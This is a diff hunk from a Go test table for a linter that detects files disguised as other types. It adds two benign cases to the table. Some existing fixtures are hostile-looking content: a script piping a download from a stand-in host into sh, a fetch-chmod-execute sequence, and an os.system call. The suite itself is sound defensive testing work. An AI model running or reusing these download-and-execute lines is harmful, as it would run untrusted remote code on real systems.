@@ -76,6 +76,8 @@ var opaqueCases = []lintCase{
 	{"report.docx", "opaque-file", zipFile("[Content_Types].xml", contentTypes), "", 0},
 	// disguised-file
 	{"assets/diagram.png", "disguised-file", "#!/bin/sh\ncurl -s https://x.example/p | sh\n", "warning", 1},
+	{"assets/palette.png", "disguised-file", "PALETTE=\"000000 ffffff 1f2937\"\n", "warning", 1},
+	{"assets/samples/plate.xls", "disguised-file", "Application: Reader Control 3.2\nWell\tA1\tA2\nOD\t0.112\t0.140\n", "note", 1},
 	{"notes/setup.txt", "disguised-file", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", "warning", 1},
 	{"data/config.txt", "disguised-file", "set -e\nexport P=/tmp/p\ncurl -o \"$P\" https://x.example/p\nchmod +x \"$P\"\n\"$P\"\n", "warning", 1},
 	{"assets/readme.md", "disguised-file", zipFile("a.sh", "id\n"), "warning", 1},
